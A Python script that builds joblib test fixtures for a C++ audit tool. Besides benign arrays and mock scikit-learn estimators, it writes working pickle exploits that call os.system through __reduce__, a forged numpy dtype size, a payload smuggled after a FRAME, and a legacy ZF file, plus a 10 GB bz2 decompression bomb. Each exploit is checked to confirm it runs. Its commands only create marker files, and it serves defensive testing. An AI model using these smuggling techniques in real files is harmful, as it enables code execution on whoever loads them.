#!/usr/bin/python3
"""Writes joblib files with Debian's python3-joblib for tests/joblib_test.cpp (formats.md
section 3), into the directory given:

  arrays.joblib, arrays.<codec>    a dict of arrays, a numpy scalar and an object array of
                                   plain data; uncompressed and through each of joblib's codecs
  estimator.joblib                 a scikit-learn-shaped LogisticRegression with a Tree inside
  function.joblib                  a FunctionTransformer whose func is a global (os.getcwd)
  unknown_class.joblib             a sklearn class outside the estimator table
  payload.joblib                   an object whose __reduce__ is os.system('touch MARKER')
  object_payload.joblib            the same object inside an object array
  bomb.bz2                         about 10 GB of output from about 11 KB: multi-stream bz2
  dtype_size.joblib                an f8 array whose numpy.dtype state says its items are 52
                                   bytes: numpy ignores the field and joblib reads 8 a value,
                                   then runs the os.system call in the 44 bytes a value that
                                   the field would skip
  dtype_size_same.joblib           the field set to 8, the code's own size (a near miss)
  frame_object.joblib              an object array whose pickle sits inside the outer FRAME:
                                   joblib's pickle.load reads after the frame, where an
                                   os.system pickle waits
  payload.zf, clean.zf             joblib's old ZF format (zlib behind "ZF" and a hex length),
                                   which current joblib still loads with Python's unpickler

The three attacks are proved on Debian's joblib before they are handed to the audit: each is
loaded in a child process and must leave its proof file (then removed), so each fixture is one
that really runs its call.

Debian's python3-sklearn cannot be installed beside Boost 1.81 (its scipy pulls Boost 1.74),
so the scikit-learn objects are built from the globals and the state the real classes write:
classes of the same module and name, registered in sys.modules, pickled by joblib.dump.
Nothing here is ever loaded: the audit reads the files, and the payload would leave MARKER.
"""
import bz2
import os
import pickle
import struct
import sys
import types
import zlib

import joblib
import numpy as np

out = sys.argv[1]
marker = sys.argv[2]


def module(name):
    parts = name.split(".")
    for i in range(1, len(parts) + 1):
        sys.modules.setdefault(".".join(parts[:i]), types.ModuleType(".".join(parts[:i])))
    return sys.modules[name]


def sklearn_class(module_name, class_name, reduce=None):
    """A class pickle names as module_name.class_name, with a dict state as BaseEstimator's."""
    def getstate(self):
        state = dict(self.__dict__)
        state["_sklearn_version"] = "1.2.1"
        return state

    body = {"__module__": module_name, "__getstate__": getstate}
    if reduce is not None:
        body["__reduce__"] = reduce
    cls = type(class_name, (object,), body)
    cls.__qualname__ = class_name
    setattr(module(module_name), class_name, cls)
    return cls


arrays = {
    "w": np.arange(6, dtype=np.float32).reshape(2, 3),
    "b": np.zeros(3, dtype=np.int64),
    "f": np.asfortranarray(np.ones((2, 2))),
    "scale": np.float64(1.5),
    "labels": np.array(["a", None], dtype=object),
}
joblib.dump(arrays, os.path.join(out, "arrays.joblib"))
for codec in ("zlib", "gzip", "bz2", "xz", "lzma"):
    joblib.dump(arrays, os.path.join(out, "arrays." + codec), compress=(codec, 3))

Tree = sklearn_class(
    "sklearn.tree._tree", "Tree",
    reduce=lambda self: (type(self), (2, np.array([2], dtype=np.intp), 1), self.state))
tree = Tree.__new__(Tree)
node = np.dtype([("left_child", "<i8"), ("right_child", "<i8"), ("threshold", "<f8")])
tree.state = {"max_depth": 1, "node_count": 1, "nodes": np.zeros(1, dtype=node),
              "values": np.zeros((1, 1, 2))}
LogisticRegression = sklearn_class("sklearn.linear_model._logistic", "LogisticRegression")
model = LogisticRegression()
model.C = 1.0
model.coef_ = np.ones((1, 4))
model.intercept_ = np.zeros(1)
model.classes_ = np.array([0, 1])
model.tree_ = tree
joblib.dump(model, os.path.join(out, "estimator.joblib"))

FunctionTransformer = sklearn_class("sklearn.preprocessing._function_transformer", "FunctionTransformer")
transformer = FunctionTransformer()
transformer.func = os.getcwd
transformer.n_features_in_ = 2
transformer.feature_scale_ = np.ones(2)
joblib.dump(transformer, os.path.join(out, "function.joblib"))

Helper = sklearn_class("sklearn.utils._testing", "MinimalClassifier")
joblib.dump(Helper(), os.path.join(out, "unknown_class.joblib"))


class Payload:
    def __reduce__(self):
        return (os.system, ("touch " + marker,))


joblib.dump({"w": np.zeros(2, dtype=np.float32), "run": Payload()}, os.path.join(out, "payload.joblib"))
joblib.dump({"objects": np.array([Payload(), 1], dtype=object)}, os.path.join(out, "object_payload.joblib"))

# A pickle header, then ~10 GB of zeros as bz2 streams of 45 MB each (50 bytes apiece).
zeros = bz2.compress(b"\0" * 45_000_000, 9)
with open(os.path.join(out, "bomb.bz2"), "wb") as f:
    f.write(bz2.compress(b"\x80\x04\x95" + b"\0" * 45_000_000, 9))
    for _ in range(222):
        f.write(zeros)


def proved(name, proof):
    """Loads `name` with joblib in a child process: the attack must run (leave `proof`)."""
    import subprocess
    if os.path.exists(proof):
        os.unlink(proof)
    subprocess.run([sys.executable, "-W", "ignore", "-c", "import joblib, sys\ntry: joblib.load(sys.argv[1])\nexcept Exception: pass",
                    os.path.join(out, name)], check=True, capture_output=True)
    if not os.path.exists(proof):
        sys.exit("joblib did not run the call of " + name + ": the fixture no longer reproduces the attack")
    os.unlink(proof)


def command_opcodes(command, size):
    """Protocol-0 opcodes calling os.system(command) and dropping the result, `size` bytes long."""
    call = b"cposix\nsystem\n(V" + command.encode() + b"\ntR0"
    if (size - len(call)) % 2:
        call = b"cposix\nsystem\n(V" + command.encode() + b" \ntR0"
    assert len(call) <= size
    return call + b"N0" * ((size - len(call)) // 2)  # NONE, POP: the stack as it was


def dtype_size(name, field, payload):
    values = np.array([1.5, 2.5, 3.5, 4.5])
    joblib.dump({"w": values}, os.path.join(out, name), protocol=2)
    with open(os.path.join(out, name), "rb") as f:
        data = f.read()
    # numpy.dtype's state (3, '<', None, None, None, elsize, alignment, flags): elsize is -1.
    state = b"NNNJ\xff\xff\xff\xffJ"
    assert data.count(state) == 1
    data = data.replace(state, b"NNNJ" + struct.pack("<i", field) + b"J")
    if payload:
        at = data.index(values.tobytes()) + values.nbytes
        data = data[:at] + command_opcodes(payload, values.size * (field - 8)) + data[at:]
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)


proof = os.path.join(out, "proof-dtype")
dtype_size("dtype_size.joblib", 52, "touch " + proof)
proved("dtype_size.joblib", proof)
dtype_size("dtype_size_same.joblib", 8, None)

joblib.dump({"o": np.array([1, None], dtype=object)}, os.path.join(out, "frame_object.joblib"), protocol=4)
with open(os.path.join(out, "frame_object.joblib"), "rb") as f:
    data = f.read()
frame_length = struct.unpack("<Q", data[3:11])[0]
frame_end = 11 + frame_length
assert data[frame_end:frame_end + 2] == b"\x80\x02"  # the object array's own pickle follows the frame
object_end = data.index(b"b.s.", frame_end) + 2
proof = os.path.join(out, "proof-frame")
after = b"\x80\x02cposix\nsystem\n(Vtouch " + proof.encode() + b"\ntR."
with open(os.path.join(out, "frame_object.joblib"), "wb") as f:
    f.write(data[:3] + struct.pack("<Q", frame_length + object_end - frame_end) + data[11:object_end] + after)
proved("frame_object.joblib", proof)


def zfile(name, pickled):
    with open(os.path.join(out, name), "wb") as f:
        f.write(b"ZF" + hex(len(pickled)).encode().ljust(19) + zlib.compress(pickled))


proof = os.path.join(out, "proof-zf")
zfile("payload.zf", b"\x80\x02cposix\nsystem\n(Vtouch " + proof.encode() + b"\ntR.")
proved("payload.zf", proof)
zfile("clean.zf", pickle.dumps({"lr": 0.1, "steps": [1, 2, 3]}, protocol=2))
